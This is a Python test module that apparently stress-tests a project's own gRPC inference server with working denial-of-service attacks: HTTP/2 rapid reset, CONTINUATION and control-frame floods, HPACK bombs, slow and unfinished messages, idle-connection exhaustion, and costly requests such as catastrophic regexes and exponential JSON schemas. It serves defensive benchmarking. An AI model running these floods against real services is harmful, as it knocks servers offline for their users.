"""Attacks on a server's gRPC port, by a client without a key and by an owner.

Each is bounded by a time, and goes on when it is cut off. `ATTACKS` has them by name; tests run them beside a victim,
`kakeya bench hostile` measures what the victim notices.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import grpc

from kakeya.v1 import runtime_pb2 as pb
from kakeya.v1 import runtime_pb2_grpc
from tests.hostile import http2
from tests.hostile.http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    call_headers,
    frame,
    literal,
)

INFO = "/kakeya.v1.RuntimeService/GetServerInfo"
CHECK = "/grpc.health.v1.Health/Check"
WRONG_KEY = ((b"authorization", b"Bearer wrong-key-0123456789abcdef"),)
KEY = "attacker-" + "a" * 32  # an owner's, to whom the server is open
OWN_KEY = ((b"authorization", f"Bearer {KEY}".encode()),)
METADATA = (("authorization", f"Bearer {KEY}"),)
MESSAGE_BYTES = 4 * 2**20
STOP_IDS = 1_000_000  # 4 MiB of them
SET_NUMBERS = 65_536  # of a set, the most that are taken
UNREAD_STREAMS = 100
HISTORY_APPENDS = 30  # of 65,536 ids each: a copy of them all is 10 MB, or 20 with its journal
FORKS = 30  # at the same time
BATCH = 64  # of frames in one write
IDLE_CONNECTIONS = 400
# So that an attack takes no more of a processor it shares with its victim than an attacker elsewhere would.
PAUSE_SECONDS = 0.001

Attack = Callable[[str, float], int]


@contextmanager
def listening(connection: Connection) -> Iterator[None]:
    """Read and throw away what the server says, so that it can go on."""

    def read() -> None:
        with contextlib.suppress(OSError, ValueError):
            for _ in connection.frames(1.0):
                pass

    thread = threading.Thread(target=read, daemon=True)
    thread.start()
    try:
        yield
    finally:
        connection.close()
        thread.join(5.0)


def flood(target: str, seconds: float, batches: Callable[[], Iterator[bytes]], *, is_read: bool = True) -> int:
    """Send batches over one connection, and over another when that is cut off. Returns how many batches went out."""
    sent, ends = 0, time.monotonic() + seconds
    while time.monotonic() < ends:
        try:
            connection = Connection(target)
        except OSError:
            time.sleep(0.05)
            continue
        with connection, listening(connection) if is_read else contextlib.nullcontext():
            for batch in batches():
                if time.monotonic() >= ends or not connection.try_send(batch):
                    break
                sent += 1
                time.sleep(PAUSE_SECONDS)
    return sent


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def headers_of(stream: int, block: bytes, flags: int = END_STREAM) -> bytes:
    """HEADERS and as many CONTINUATIONs as it takes."""
    parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    last = len(parts) - 1
    return b"".join(
        frame(
            HEADERS if at == 0 else CONTINUATION,
            (END_HEADERS if at == last else 0) | (flags if at == 0 else 0),
            stream,
            part,
        )
        for at, part in enumerate(parts)
    )


def many_headers(target: str, seconds: float) -> int:
    """Calls with 2,000 headers of two bytes."""
    block = call_headers(INFO) + literal(b"ab", b"") * 2_000
    return flood(target, seconds, lambda: (headers_of(stream, block) for stream in streams()))


def indexed_headers(target: str, seconds: float) -> int:
    """The same from the table of the other side: a byte each, so that an attacker pays 2 kB for 70 kB."""
    first = call_headers(INFO) + literal(b"ab", b"", indexed=True)
    block = call_headers(INFO) + b"\xbe" * 2_000
    return flood(target, seconds, lambda: (headers_of(stream, first if stream == 1 else block) for stream in streams()))


def hpack_bomb(target: str, seconds: float) -> int:
    """One header of 4 kB, named a thousand times by a byte each."""
    first = call_headers(INFO) + literal(b"bomb", b"x" * 3_000, indexed=True)
    block = call_headers(INFO) + b"\xbe" * 1_000
    return flood(target, seconds, lambda: (headers_of(stream, first if stream == 1 else block) for stream in streams()))


def continuation(target: str, seconds: float) -> int:
    """Headers that never end."""

    def batches() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, call_headers(INFO))
        while True:
            yield frame(CONTINUATION, 0, 1, literal(b"ab", b"cd")) * BATCH

    return flood(target, seconds, batches)


def wrong_keys(target: str, seconds: float) -> int:
    """Whole calls, each with a wrong key."""
    message = http2.message(b"")
    return refused_calls(target, seconds, lambda stream: frame(DATA, END_STREAM, stream, message), pause=0.02)


def rapid_reset(target: str, seconds: float) -> int:
    """Calls that are cancelled as soon as they are made."""
    reset = struct.pack(">I", CANCEL)
    return refused_calls(target, seconds, lambda stream: frame(RST_STREAM, 0, stream, reset), pause=0.01)


def refused_calls(target: str, seconds: float, rest: Callable[[int], bytes], *, pause: float) -> int:
    """Calls with a wrong key, a batch of streams at once. rest: what follows the headers on a stream."""
    block = call_headers(INFO, WRONG_KEY)

    def batches() -> Iterator[bytes]:
        for first in itertools.count(1, 2 * BATCH):
            streams = range(first, first + 2 * BATCH, 2)
            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + rest(stream) for stream in streams)
            time.sleep(pause)

    return flood(target, seconds, batches)


def pings(target: str, seconds: float) -> int:
    return flood(target, seconds, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * BATCH))


def settings(target: str, seconds: float) -> int:
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
    return flood(target, seconds, lambda: itertools.repeat(one * BATCH))


def window_updates(target: str, seconds: float) -> int:
    one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    return flood(target, seconds, lambda: itertools.repeat(one * BATCH))


def priorities(target: str, seconds: float) -> int:
    one = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))
    return flood(target, seconds, lambda: itertools.repeat(one * BATCH))


def empty_data(target: str, seconds: float) -> int:
    """A call of empty frames."""

    def batches() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, call_headers(CHECK))
        while True:
            yield frame(DATA, 0, 1) * BATCH

    return flood(target, seconds, batches)


def unfinished_messages(target: str, seconds: float, method: str = INFO, count: int = 200) -> int:
    """So many calls on one connection, each all but the last byte of 4 MiB, as far as the server lets it through."""
    sent, connection = unfinished(target, seconds, method, count)
    connection.close()
    return sent


def unfinished(
    target: str, seconds: float, method: str, count: int, headers: http2.Headers = ()
) -> tuple[int, Connection]:
    """Bytes that went out, and the connection, still open."""
    connection = Connection(target)
    window, sizes = 65_535, 65_535
    windows: dict[int, int] = {}
    left: dict[int, int] = {}
    sent = 0
    with contextlib.suppress(OSError):
        for _ in range(count):
            stream = connection.begin(method, headers)
            windows[stream], left[stream] = sizes, MESSAGE_BYTES - 1
            connection.send(frame(DATA, 0, stream, http2.message_start(MESSAGE_BYTES)))
            windows[stream] -= 5
            window -= 5
        ends = time.monotonic() + seconds
        while left and time.monotonic() < ends:
            for stream in list(left):
                size = min(16_384, window, windows[stream], left[stream])
                if size > 0:
                    connection.send(frame(DATA, 0, stream, bytes(size)))
                    window, sent = window - size, sent + size
                    windows[stream] -= size
                    left[stream] -= size
            for each in connection.frames(0.05):
                if each.kind == WINDOW_UPDATE:
                    more = struct.unpack(">I", each.payload)[0]
                    if each.stream:
                        windows[each.stream] = windows.get(each.stream, 0) + more
                    else:
                        window += more
                elif each.kind == SETTINGS and not each.flags & ACK:
                    for at in range(0, len(each.payload), 6):
                        name, value = struct.unpack(">HI", each.payload[at : at + 6])
                        if name == 4:
                            windows = {stream: old + value - sizes for stream, old in windows.items()}
                            sizes = value
                elif each.kind == RST_STREAM or (each.kind == HEADERS and each.flags & END_STREAM):
                    left.pop(each.stream, None)
            if connection.is_closed():
                break
    return sent, connection


def unfinished_checks(target: str, seconds: float) -> int:
    """The same with the one method that needs no key."""
    sent, connection = unfinished(target, seconds, CHECK, 200)
    connection.close()
    return sent


def half_open(target: str, seconds: float, headers: http2.Headers = ()) -> int:
    """Calls of headers alone, on one connection after another."""
    block = call_headers(INFO, headers)

    def batches() -> Iterator[bytes]:
        for first in itertools.count(1, 2 * BATCH):
            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(first, first + 2 * BATCH, 2))
            time.sleep(0.02)

    return flood(target, seconds, batches)


def idle_connections(target: str, seconds: float) -> int:
    """Connections that greet and say nothing more; those that are closed are opened again."""
    held: list[Connection] = []
    opened, ends = 0, time.monotonic() + seconds
    try:
        while time.monotonic() < ends:
            if len(held) < IDLE_CONNECTIONS:
                with contextlib.suppress(OSError):
                    held.append(Connection(target))
                    opened += 1
            else:
                closed = [each for each in held if each.is_closed(0.0001)]
                for each in closed:
                    each.close()
                held = [each for each in held if each not in closed]
                time.sleep(0.2)
    finally:
        for each in held:
            each.close()
    return opened


def half_open_of_owner(target: str, seconds: float) -> int:
    return half_open(target, seconds, OWN_KEY)


def stop_ids(target: str, seconds: float) -> int:
    """Generates with a million stop ids, one after another."""
    sent, ends = 0, time.monotonic() + seconds
    with grpc.insecure_channel(target) as channel:
        stub = runtime_pb2_grpc.RuntimeServiceStub(channel)
        request = pb.GenerateRequest(session_id="none", max_tokens=1, stop_token_ids=range(STOP_IDS))
        while time.monotonic() < ends:
            with contextlib.suppress(grpc.RpcError):
                list(stub.Generate(request, metadata=METADATA, timeout=10.0))
            sent += 1
    return sent


def unread_streams(target: str, seconds: float) -> int:
    """Generates whose sender takes no byte of their answers."""
    with grpc.insecure_channel(target) as channel:
        stub = runtime_pb2_grpc.RuntimeServiceStub(channel)
        sessions: list[str] = []
        with contextlib.suppress(grpc.RpcError):  # as many as there is room for
            for _ in range(UNREAD_STREAMS):
                made = stub.CreateSession(pb.CreateSessionRequest(limit_tokens=400), metadata=METADATA, timeout=10.0)
                append = pb.AppendTokensRequest(session_id=made.session_id, token_ids=[1, 2, 3])
                stub.AppendTokens(append, metadata=METADATA, timeout=10.0)
                sessions.append(made.session_id)
        no_window = struct.pack(">HI", 4, 0)
        with Connection(target, settings=no_window) as connection:
            for session in sessions:
                request = pb.GenerateRequest(session_id=session, max_tokens=300)
                stream = connection.begin("/kakeya.v1.RuntimeService/Generate", OWN_KEY)
                raw = http2.message(request.SerializeToString())
                if not connection.try_send(frame(DATA, END_STREAM, stream, raw)):
                    break
            time.sleep(seconds)
        for session in sessions:
            with contextlib.suppress(grpc.RpcError):
                stub.CloseSession(pb.CloseSessionRequest(session_id=session), metadata=METADATA, timeout=10.0)
    return len(sessions)


def forks_of_a_long_history(target: str, seconds: float) -> int:
    """As many as there may be, over and over, and Generates that ask for every id of it and are given up."""
    sent, ends = 0, time.monotonic() + seconds
    options: dict[str, Any] = {"metadata": METADATA, "timeout": 10.0}
    with grpc.insecure_channel(target) as channel:
        stub = runtime_pb2_grpc.RuntimeServiceStub(channel)
        endless = pb.Strategy(sink_window=pb.SinkWindowStrategy(sink=4, window=32))
        parent = stub.CreateSession(pb.CreateSessionRequest(strategy=endless), **options).session_id
        ids = list(range(128)) * 512
        for _ in range(HISTORY_APPENDS):
            stub.AppendTokens(pb.AppendTokensRequest(session_id=parent, token_ids=ids), **options)
        forks: list[str] = []
        while time.monotonic() < ends:
            with contextlib.suppress(grpc.RpcError):
                fork = stub.ForkSession(pb.ForkSessionRequest(session_id=parent), **options)
                forks.append(fork.session_id)
                stream = stub.Generate(
                    pb.GenerateRequest(session_id=parent, max_tokens=1, repetition_penalty=1.5, progress=True),
                    **options,
                )
                next(stream)
                stream.cancel()
            sent += 2
            if len(forks) >= FORKS:
                _close(stub, forks.pop(0))
        for session in (parent, *forks):
            _close(stub, session)
    return sent


def dear_constraints(target: str, seconds: float) -> int:
    """Generates under constraints that take work to compile, to match, or both; a new one each time."""

    def asked(number: int, _: int) -> Iterator[pb.GenerateRequest]:
        return (pb.GenerateRequest(constraint=each, temperature=5.0) for each in _dear_constraints(number))

    return _generates(target, seconds, asked)


def many_ids(target: str, seconds: float) -> int:
    """Generates that name as many ids as they may, and as fit into a message, in every field that has any."""
    return _generates(target, seconds, _many_ids)


def _generates(target: str, seconds: float, asked: Callable[[int, int], Iterator[pb.GenerateRequest]]) -> int:
    """One after another of what `asked` gives by the number of those before and the vocabulary's size."""
    sent, ends = 0, time.monotonic() + seconds
    options: dict[str, Any] = {"metadata": METADATA, "timeout": 10.0}
    with grpc.insecure_channel(target) as channel:
        stub = runtime_pb2_grpc.RuntimeServiceStub(channel)
        vocabulary = stub.GetServerInfo(pb.GetServerInfoRequest(), **options).vocab_size
        session = stub.CreateSession(pb.CreateSessionRequest(limit_tokens=900), **options).session_id
        stub.AppendTokens(pb.AppendTokensRequest(session_id=session, token_ids=[1, 2, 3]), **options)
        while time.monotonic() < ends:
            for request in asked(sent, vocabulary):
                request.session_id, request.max_tokens = session, 40
                with contextlib.suppress(grpc.RpcError):
                    list(stub.Generate(request, **options))
                sent += 1
        _close(stub, session)
    return sent


def _many_ids(number: int, vocabulary: int) -> Iterator[pb.GenerateRequest]:
    """Sets, biases, stops and choices, of what is taken and of what is refused; `number` makes each another one."""
    ids = [(at * 7 + number) % vocabulary for at in range(SET_NUMBERS)]
    apart = list(range(number % 2, 2 * SET_NUMBERS, 2))
    yield pb.GenerateRequest(allowed_token_ids=pb.TokenSet(token_ids=ids))
    yield pb.GenerateRequest(banned_token_ids=pb.TokenSet(token_ids=[each for each in ids if each % 2]))
    yield pb.GenerateRequest(allowed_token_ids=pb.TokenSet(token_ids=apart))
    yield pb.GenerateRequest(banned_token_ids=pb.TokenSet(ranges=apart))
    yield pb.GenerateRequest(logit_bias=dict.fromkeys(ids[:1024], number % 7))
    yield pb.GenerateRequest(logit_bias=dict.fromkeys(range(20_000), 1.0))
    yield pb.GenerateRequest(stop_sequences=[pb.TokenIds(token_ids=ids[:16])] * 64)
    yield pb.GenerateRequest(stop_sequences=[pb.TokenIds()] * 90_000)
    choices = [pb.TokenIds(token_ids=ids[at : at + 16]) for at in range(1024)]
    yield pb.GenerateRequest(constraint=pb.Constraint(choice=pb.TokenChoice(choices=choices)))
    yield pb.GenerateRequest(constraint=pb.Constraint(choice=pb.TokenChoice(choices=[pb.TokenIds()] * 90_000)))


def _dear_constraints(number: int) -> Iterator[pb.Constraint]:
    """Exponential, recursive, of 4 MiB, of many states; `number` makes each another one than before."""
    schema: dict[str, Any] = {"type": "string", "title": str(number)}
    for _ in range(7):
        schema = {"anyOf": [{"type": "object", "properties": {f"k{at}": schema}} for at in range(3)]}
    yield pb.Constraint(json_schema=json.dumps(schema))
    recursive = {"$defs": {"a": {"anyOf": [{"$ref": "#/$defs/a"}, {"items": {"$ref": "#/$defs/a"}}]}}}
    yield pb.Constraint(json_schema=json.dumps({**recursive, "$ref": "#/$defs/a", "title": str(number)}))
    yield pb.Constraint(json_schema=json.dumps({"enum": [f"{number}-{at:09}" for at in range(250_000)]}))
    yield pb.Constraint(json_schema='{"items":' * 3000 + "{}" + "}" * 3000)
    doubled = "".join(f"r{at + 1}: r{at} r{at}\n" for at in range(20))
    yield pb.Constraint(lark=f'start: r20\n{doubled}r0: "{"x" * 4000}"')
    yield pb.Constraint(regex=f"(.*a.{{300}}b.{{{300 + number % 99}}}c)*")
    yield pb.Constraint(regex=f"((a{{1,100}}b?){{1,100}}c?){{1,{100 + number % 99}}}")
    long = {"type": "string", "pattern": "^(a|ab|b.*c)*$", "minLength": 50_000 + number, "maxLength": 100_000}
    yield pb.Constraint(json_schema=json.dumps(long))
    yield pb.Constraint(lark=f'start: s\ns: s s s | s s | "a" | "{number}"')


def _close(stub: Any, session_id: str) -> None:
    with contextlib.suppress(grpc.RpcError):
        stub.CloseSession(pb.CloseSessionRequest(session_id=session_id), metadata=METADATA, timeout=10.0)


WITHOUT_KEY: dict[str, Attack] = {
    "messages that do not end": unfinished_messages,
    "messages that do not end, to health": unfinished_checks,
    "calls that are headers alone": half_open,
    "calls with a wrong key": wrong_keys,
    "2,000 headers a call": many_headers,
    "2,000 indexed headers a call": indexed_headers,
    "HPACK bomb": hpack_bomb,
    "CONTINUATION without end": continuation,
    "rapid reset": rapid_reset,
    "PING flood": pings,
    "SETTINGS flood": settings,
    "WINDOW_UPDATE flood": window_updates,
    "PRIORITY flood": priorities,
    "empty DATA": empty_data,
    "idle connections": idle_connections,
}
WITH_KEY: dict[str, Attack] = {
    "4 MiB of stop ids": stop_ids,
    "an owner's calls that are headers alone": half_open_of_owner,
    "streams that are not read": unread_streams,
    "forks of a long history": forks_of_a_long_history,
    "constraints that are dear": dear_constraints,
    "as many ids as a Generate may name": many_ids,
}
ATTACKS = WITHOUT_KEY | WITH_KEY

if __name__ == "__main__":
    # target, name of an attack, seconds, and the attacker's address if it has one of its own
    Connection.source = sys.argv[4] if len(sys.argv) > 4 else None
    print("begins", flush=True)
    ATTACKS[sys.argv[2]](sys.argv[1], float(sys.argv[3]))
